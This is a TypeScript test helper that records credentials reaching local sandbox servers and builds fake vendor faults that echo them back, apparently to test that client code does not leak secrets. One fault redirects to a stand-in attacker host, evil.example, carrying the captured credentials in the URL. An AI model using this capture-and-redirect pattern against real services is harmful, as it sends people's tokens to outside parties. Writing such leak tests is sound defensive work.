import { subscribe } from 'node:diagnostics_channel'
import type { IncomingMessage } from 'node:http'
import type { Fault } from '../../src/sandboxes/faults.ts'
import type { Sandbox } from '../../src/sandboxes/kit.ts'

/** Records the credentials that the HTTP servers of this process receive from now on. Returns them by the port of the server. */
export function recordCredentials(): ReadonlyMap<number, Set<string>> {
  const byPort = new Map<number, Set<string>>()
  subscribe('http.server.request.start', (message) => {
    const { request } = message as { request: IncomingMessage }
    const port = request.socket.localPort!
    const credentials = byPort.get(port) ?? new Set()
    byPort.set(port, credentials)
    const { authorization = '' } = request.headers
    const [, credential] = authorization.split(' ', 2)
    const inUrl = new URL(request.url ?? '/', 'http://localhost').searchParams.get('access_token')
    for (const sent of [credential, inUrl]) if (sent) credentials.add(sent)
    if (request.url?.includes('token')) recordAssertion(request, credentials)
  })
  return byPort
}

/** Records the assertion in a body. Replaces `push`, because a listener would take the bytes from the server. */
function recordAssertion(request: IncomingMessage, credentials: Set<string>): void {
  const push = request.push.bind(request)
  let text = ''
  request.push = (chunk: Buffer | null, encoding?: BufferEncoding) => {
    text += chunk?.toString() ?? ''
    const assertion = new URLSearchParams(text).get(chunk === null ? 'assertion' : '')
    if (assertion) credentials.add(assertion)
    return push(chunk, encoding)
  }
}

/** Creates faults of a vendor that repeats the credentials it received, one for each way in which it can fail. */
export function createEchoes(credentials: ReadonlyMap<number, Set<string>>, sandbox: Sandbox): Omit<Fault, 'match'>[] {
  const received = [...(credentials.get(Number(new URL(sandbox.url).port)) ?? [])].slice(-3).join(' ')
  const body = JSON.stringify({
    code: 300,
    message: received,
    error: { message: received, reason: received },
    reason: received,
    error_description: received,
  })
  return [
    ...[400, 401, 403, 404, 409, 429, 500, 503].map((status) => ({ kind: 'status' as const, status, body })),
    { kind: 'status', status: 400, body: received, headers: { 'x-echo': 'a' } },
    { kind: 'body', status: 200, body: received },
    { kind: 'body', status: 200, body },
    { kind: 'status', status: 302, headers: { location: `https://evil.example/?${received.slice(0, 2_000)}` } },
    { kind: 'reset' },
    { kind: 'cut' },
  ]
}
